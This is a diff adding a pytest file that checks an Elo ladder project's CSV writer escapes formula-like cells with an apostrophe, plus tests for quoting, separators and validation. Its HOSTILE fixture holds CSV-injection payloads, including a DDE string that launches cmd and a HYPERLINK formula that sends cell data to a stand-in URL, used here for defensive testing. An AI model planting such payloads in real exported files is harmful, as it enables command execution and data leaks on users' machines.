@@ -1,0 +1,117 @@
+"""The one CSV writer (`_csv`): a cell a spreadsheet would run as a formula is written as text (a leading
+apostrophe) wherever elo_core writes CSV: the ladder's ranking and history (`ladder_csv`, the bridge's `csv` kind,
+`elo-core ladder --csv` and `--history`) and any table the widget sends (the tournament report's download);
+RFC 4180 quoting, the three separators, decimal commas under `;`."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from pathlib import Path
+
+import pytest
+
+from elo_core._cli import main
+from elo_core._csv import cell, table_csv, write_csv
+from elo_core._ladder import ladder_csv, ladder_report
+from elo_core.bridge import ladder
+
+HOSTILE = ('=HYPERLINK("http://x"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3")
+"""Names a spreadsheet would run as formulas (OWASP's examples)."""
+LEDGER = "date,white,black,result\n" + "".join(
+    f'2026-03-0{i + 1},"{name.replace(chr(34), chr(34) * 2)}",Anna,1\n' for i, name in enumerate(HOSTILE))
+
+
+def cells(text: str, separator: str = ",") -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))
+
+
+def test_hostile_names_in_the_ranking_csv_start_with_an_apostrophe() -> None:
+    answer = ladder_report({"text": LEDGER})
+    rows = cells(ladder_csv({"players": answer["players"]})["csv"])
+    names = {row[3] for row in rows[1:]}
+    assert {"'" + name for name in HOSTILE} | {"Anna"} == names
+    assert {"'" + name for name in HOSTILE} | {"Anna"} == {row[2] for row in rows[1:]}  # the ids too
+
+
+def test_hostile_opponents_in_the_history_csv_start_with_an_apostrophe() -> None:
+    answer = ladder_report({"text": LEDGER})
+    anna = next(p for p in answer["players"] if p["id"] == "Anna")
+    rows = cells(ladder_csv({"history": anna["history"]})["csv"])
+    assert ["'" + name for name in HOSTILE] == [row[3] for row in rows[1:]]
+
+
+def test_the_bridge_csv_kind_guards_the_ranking() -> None:
+    answer = json.loads(ladder(json.dumps({"text": LEDGER})))
+    text = json.loads(ladder(json.dumps({"kind": "csv", "players": answer["players"]})))["csv"]
+    assert "'" + HOSTILE[0] in {row[3] for row in cells(text)}
+
+
+def run_cli(tmp_path: Path, *argv: str) -> tuple[int, str]:
+    games = tmp_path / "games.csv"
+    games.write_text(LEDGER, encoding="utf-8")
+    out = io.StringIO()
+    code = main(["ladder", str(games), *argv], stdin=io.StringIO(""), stdout=out)
+    return code, out.getvalue()
+
+
+@pytest.mark.parametrize("separator", [",", ";", "tab"])
+def test_cli_csv_writes_hostile_names_as_text(tmp_path: Path, separator: str) -> None:
+    code, out = run_cli(tmp_path, "--csv", "--separator", separator)
+    assert 0 == code
+    rows = cells(out, "\t" if separator == "tab" else separator)
+    assert {"'" + name for name in HOSTILE} | {"Anna"} == {row[3] for row in rows[1:]}
+
+
+def test_cli_history_writes_hostile_opponents_as_text(tmp_path: Path) -> None:
+    code, out = run_cli(tmp_path, "--history", "Anna")
+    assert 0 == code
+    assert ["'" + name for name in HOSTILE] == [row[3] for row in cells(out)[1:]]
+
+
+def test_cli_csv_with_bom_starts_with_a_byte_order_mark(tmp_path: Path) -> None:
+    code, out = run_cli(tmp_path, "--csv", "--bom")
+    assert 0 == code
+    assert out.startswith("\ufeffpool,rank,id,name")
+    assert not run_cli(tmp_path, "--csv")[1].startswith("\ufeff")
+
+
+def test_a_table_is_written_with_crlf_and_its_formulas_as_text() -> None:
+    table = [["name", "change", "note"], [HOSTILE[0], -12.5, "-12.5"], ["Meier, Anna", 3, None], ["@x", 7.25, "="]]
+    answer = json.loads(ladder(json.dumps({"kind": "csv", "table": table})))
+    assert answer["ok"]
+    assert answer["csv"].endswith("\r\n") and answer["csv"].count("\r\n") == 4
+    assert [["name", "change", "note"], ["'" + HOSTILE[0], "-12.5", "-12.5"], ["Meier, Anna", "3", ""],
+            ["'@x", "7.25", "'="]] == cells(answer["csv"])
+
+
+def test_a_table_with_semicolons_writes_decimal_commas() -> None:
+    answer = table_csv({"table": [["rating"], [1512.25], ["-7,4"]], "separator": ";"})
+    assert "rating\r\n1512,25\r\n-7,4\r\n" == answer["csv"]
+
+
+def test_a_table_that_is_no_table_is_refused_naming_the_cell() -> None:
+    assert "table" == table_csv({"table": "x"})["errors"][0]["field"]
+    assert "table[1]" == table_csv({"table": [[], 3]})["errors"][0]["field"]
+    refused = table_csv({"table": [["a", {"b": 1}]]})["errors"][0]
+    assert ("table[0][1]", "expected table[0][1] to be text, a finite number or null, got an object") == (
+        refused["field"], refused["message"])
+    assert not table_csv({"table": [[float("nan")]]})["ok"]
+    assert "separator" == table_csv({"table": [], "separator": "|"})["errors"][0]["field"]
+    assert not table_csv([1])["ok"]
+    assert "bad_json" == json.loads(ladder('{"kind": "csv", "table": ['))["errors"][0]["code"]
+
+
+@pytest.mark.parametrize(("value", "written"), [
+    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
+    ("\r=1", "'\r=1"), ("-12.5", "-12.5"), ("+3", "+3"), ("-7,4", "-7,4"), ("-", "'-"), ("Anna", "Anna"),
+    (-12.5, "-12.5"), (True, "yes"), (None, ""), (2000.0, "2000"),
+])
+def test_a_cell_is_a_formula_only_when_it_is_text_that_is_no_number(value: object, written: str) -> None:
+    assert written == cell(value)
+
+
+def test_quoting_is_rfc_4180() -> None:
+    assert 'a,"b,c","d ""e""","f\ng"\n' == write_csv([["a", "b,c", 'd "e"', "f\ng"]])
+    assert "a;b,c\n" == write_csv([["a", "b,c"]], ";")
